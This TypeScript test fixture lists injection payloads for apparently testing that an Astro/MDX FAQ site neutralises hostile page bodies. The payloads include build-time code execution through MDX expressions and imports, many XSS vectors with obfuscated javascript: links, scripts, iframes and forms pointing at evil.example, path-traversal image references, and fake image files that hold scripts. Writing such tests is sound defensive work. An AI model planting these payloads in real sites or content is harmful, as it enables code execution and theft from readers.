/**
 * What a stranger could write into a body to have it run: at build time in Node, or in a reader's browser. Each would leave one of two
 * traces: the file that `MARKER` names, or the word `PAYLOAD` in a page.
 */
export const PAYLOAD = 'PWNED-9f3a';
export const MARKER = 'WAYMARK_ATTACK_MARKER';

const run = `process.getBuiltinModule('fs').writeFileSync(process.env.${MARKER}, 'ran')`;

/** Name and body. */
export const ATTACKS: [name: string, body: string][] = [
  ['import', `import fs from 'node:fs'\n\n${PAYLOAD}`],
  ['import for its effects', `import './evil.mjs'\n\n${PAYLOAD}`],
  ['import of data', `import x from 'data:text/javascript,${run}'\n\n${PAYLOAD}`],
  ['export', `export const x = ${run}\n\n${PAYLOAD}`],
  ['export of a default layout', `export default function Layout() { ${run} }\n\n${PAYLOAD}`],
  ['export of static paths', `export const getStaticPaths = () => ${run}\n\n${PAYLOAD}`],
  ['expression', `{${run}}`],
  ['expression in a line', `A line {${run}} and ${PAYLOAD}`],
  ['expression in a heading', `## A {${run}} heading ${PAYLOAD}`],
  ['expression in a list', `- a\n- {${run}}\n- ${PAYLOAD}`],
  ['expression in a table', `| a |\n| - |\n| {${run}} ${PAYLOAD} |`],
  ['expression in a quotation', `> {${run}} ${PAYLOAD}`],
  ['expression in a link', `[{${run}}](https://example.org) ${PAYLOAD}`],
  ['expression in an aside', `:::note[A]\n{${run}} ${PAYLOAD}\n:::`],
  ['expression in a footnote', `A[^1]\n\n[^1]: {${run}} ${PAYLOAD}`],
  ['expression that only looks like a comment', `{/* ${PAYLOAD} */ ${run}}`],
  ['template in an expression', `{\`${PAYLOAD}\${${run}}\`}`],
  ['expression over several lines', `{\n  ${run}\n}\n\n${PAYLOAD}`],
  ['attribute with an expression', `<details open={${run}}>${PAYLOAD}</details>`],
  ['spread', `<kbd {...{ a: ${run} }}>${PAYLOAD}</kbd>`],
  ['child of an allowed element', `<kbd>{${run}} ${PAYLOAD}</kbd>`],
  ['script', `<script>alert("${PAYLOAD}")</script>`],
  ['script by address', `<script src="https://evil.example/${PAYLOAD}.js"></script>`],
  ['style', `<style>body { background: url(https://evil.example/${PAYLOAD}) }</style>`],
  ['style attribute', `<kbd style="background: url(https://evil.example/${PAYLOAD})">a</kbd>`],
  ['event handler', `<kbd onclick="alert('${PAYLOAD}')">a</kbd>`],
  ['event handler in capitals', `<kbd onClick="alert('${PAYLOAD}')">a</kbd>`],
  ['iframe', `<iframe src="https://evil.example/${PAYLOAD}"></iframe>`],
  ['object', `<object data="https://evil.example/${PAYLOAD}"></object>`],
  ['form', `<form action="https://evil.example/${PAYLOAD}"><input name="a" /></form>`],
  ['button of a form', `<button formaction="javascript:alert('${PAYLOAD}')">a</button>`],
  ['raw image', `<img src="x" onerror="alert('${PAYLOAD}')" />`],
  ['svg', `<svg onload="alert('${PAYLOAD}')"></svg>`],
  ['math', `<math href="javascript:alert('${PAYLOAD}')">a</math>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=https://evil.example/${PAYLOAD}" />`],
  ['base', `<base href="https://evil.example/${PAYLOAD}/" />`],
  ['link element', `<link rel="stylesheet" href="https://evil.example/${PAYLOAD}.css" />`],
  ['raw link', `<a href="javascript:alert('${PAYLOAD}')">a</a>`],
  ['set:html', `<kbd set:html="<b>${PAYLOAD}</b>">a</kbd>`],
  ['set:html with code', `<Fragment set:html={${run}} />\n\n${PAYLOAD}`],
  ['client directive', `<kbd client:load>${PAYLOAD}</kbd>`],
  ['member component', `<Astro.self a="${PAYLOAD}" />`],
  ['component of nobody', `<Evil a="${PAYLOAD}" />`],
  ['custom element', `<evil-element>${PAYLOAD}</evil-element>`],
  ['name from an object', `<constructor a="${PAYLOAD}" />`],
  ['fragment', `<>${PAYLOAD}</>`],
  ['javascript link', `[a](javascript:alert('${PAYLOAD}'))`],
  ['javascript link in mixed case', `[a](JaVaScRiPt:alert('${PAYLOAD}'))`],
  ['javascript link with entities', `[a](java&#115;cript&colon;alert('${PAYLOAD}'))`],
  ['javascript link with a tab', `[a](<java&Tab;script:alert('${PAYLOAD}')>)`],
  ['javascript link with a line end', `[a](<java&NewLine;script:alert('${PAYLOAD}')>)`],
  ['javascript link after an invisible character', `[a](<&#1;javascript:alert('${PAYLOAD}')>)`],
  ['javascript link by reference', `[a][evil]\n\n[evil]: javascript:alert('${PAYLOAD}')`],
  ['data link', `[a](data:text/html,${PAYLOAD})`],
  ['vbscript link', `[a](vbscript:${PAYLOAD})`],
  ['file link', `[a](file:///etc/${PAYLOAD})`],
  ['link without its scheme', `[a](//evil.example/${PAYLOAD})`],
  ['link with backslashes', `[a](<\\\\\\\\evil.example/${PAYLOAD}>)`],
  ['image that is a script', `![${PAYLOAD}](./evil.mjs)`],
  ['image with a query', `![${PAYLOAD}](./a.png?raw)`],
  ['image from elsewhere', `![${PAYLOAD}](https://evil.example/a.png)`],
  ['image from another folder', `![${PAYLOAD}](./evil/a.png)`],
  ['image from the root of the site', `![${PAYLOAD}](/favicon.png)`],
  ['image by an escaped path', `![${PAYLOAD}](./%2e%2e%2fa.png)`],
  ['image with a part', `![${PAYLOAD}](./a.png#svgView)`],
  ['image of a module', `![${PAYLOAD}](virtual:evil.png)`],
  ['image in a link', `[![${PAYLOAD}](https://evil.example/a.png)](faq:how-far)`],
  ['image from above', `![${PAYLOAD}](../../../package.json)`],
  ['image of an alias', `![${PAYLOAD}](~/evil.mjs)`],
  ['image by reference', `![${PAYLOAD}][evil]\n\n[evil]: ./evil.mjs`],
  ['image as data', `![${PAYLOAD}](data:image/svg+xml,evil)`],
  ['vector image', `![${PAYLOAD}](./evil.svg)`],
  ['aside with attributes', `:::note{icon="${PAYLOAD}"}\na\n:::`],
  ['directive of nobody', `:::evil[${PAYLOAD}]\na\n:::`],
];

/** A FAQ with an attack in its body. */
export const attackPage = (body: string) => `---
title: How far is it?
summary: Two hours.
verified: 2026-01-31
group: The work
source:
  title: A walker's diary
  year: 2020
---

${body}
`;

/** A script beside the pages, for attacks that import one. */
export const EVIL_MODULE = `${run}\nexport default { src: '${PAYLOAD}', width: 1, height: 1, format: 'png' }\n`;

/** Files that are called pictures and are not, beside the pages. */
export const EVIL_PICTURES: Record<string, string> = {
  'evil.png': EVIL_MODULE,
  'evil.webp': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${PAYLOAD}')"><script>alert('${PAYLOAD}')</script></svg>`,
  'evil.avif': `<!doctype html><script>alert('${PAYLOAD}')</script>`,
};
